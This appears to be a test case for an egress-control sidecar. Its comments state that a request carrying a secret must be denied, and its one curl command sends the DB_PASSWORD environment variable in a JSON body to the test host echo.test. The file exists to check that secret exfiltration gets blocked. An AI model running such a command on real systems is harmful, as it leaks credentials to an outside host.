# S4: held secret in a JSON body
# expect: fail
# audit: sidecar=egress decision=deny host=echo.test
# upstream-must-not-see: DB_PASSWORD
curl -sS -m 10 -f -H 'Content-Type: application/json' -d "{\"note\":\"x\",\"p\":\"$DB_PASSWORD\"}" http://echo.test/allowed/j
